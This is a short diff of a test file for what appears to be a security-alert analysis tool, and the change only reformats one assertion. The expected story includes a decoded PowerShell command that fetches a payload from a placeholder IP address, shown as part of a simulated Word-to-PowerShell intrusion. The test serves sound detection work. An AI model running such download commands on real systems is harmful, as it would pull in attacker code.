@@ -25,9 +25,7 @@ def test_the_story_opens_with_the_validation_and_tells_steps_in_time_order() -> 
     assert story[0].startswith("Unproven: ")
     assert story[1] == "On 2026-11-24 (UTC):"
     assert story[2].startswith("10:02:09 WINWORD.EXE started")
-    assert story[3].startswith(
-        "10:02:11 WINWORD.EXE started powershell.exe as alice (the alert's process)"
-    )
+    assert story[3].startswith("10:02:11 WINWORD.EXE started powershell.exe as alice (the alert's process)")
     assert "[decoded: iwr http://203.0.113.10/a]" in story[3]
     assert story[4] == "10:02:15 powershell.exe connected to 203.0.113.10 port 443"
 
